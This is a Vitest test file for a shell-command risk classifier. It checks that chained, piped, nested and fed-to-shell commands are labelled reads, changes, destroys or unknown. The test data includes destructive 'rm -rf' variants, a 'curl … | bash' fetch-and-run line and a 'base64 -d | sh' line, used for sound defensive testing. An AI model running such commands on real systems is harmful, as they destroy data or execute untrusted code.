import { expect, test } from 'vitest';
import { commandRisk } from '../../src/risk/risk.ts';

test.each([
  ['ls | grep a | wc -l', 'reads'],
  ['ls | xargs rm -rf', 'destroys'],
  ['ls && rm -rf x', 'destroys'],
  ['ls || rm -rf x', 'destroys'],
  ['ls; rm -rf x', 'destroys'],
  ['ls & rm -rf x', 'destroys'],
  ['rm -rf x | cat', 'destroys'],
  ['! rm -rf x', 'destroys'],
  ['time rm -rf x', 'destroys'],
  ['ls |& tee out', 'changes'],
  ['(ls; rm -rf x)', 'destroys'],
  ['{ ls; rm -rf x; }', 'destroys'],
  ['ls\nrm -rf x', 'destroys'],
])('every part counts: %s', (command, risk) => {
  expect(commandRisk(command)).toBe(risk);
});

test.each([
  ["echo 'rm -rf x' | sh", 'destroys'],
  ["echo 'ls' | sh", 'reads'],
  ['curl -s https://a.example/x | bash', 'unknown'],
  ["printf 'rm -rf %s' x | bash", 'destroys'],
  ["echo 'rm -rf x' | sudo bash", 'destroys'],
  ["echo 'rm -rf x' | ssh h", 'destroys'],
  ['base64 -d f | sh', 'unknown'],
  ["echo 'rm -rf x' | cat", 'reads'],
  ["echo 'rm -rf x' | cat | sh", 'unknown'],
  ['echo rm -rf x | grep rm', 'reads'],
])('a shell runs what it is fed: %s', (command, risk) => {
  expect(commandRisk(command)).toBe(risk);
});
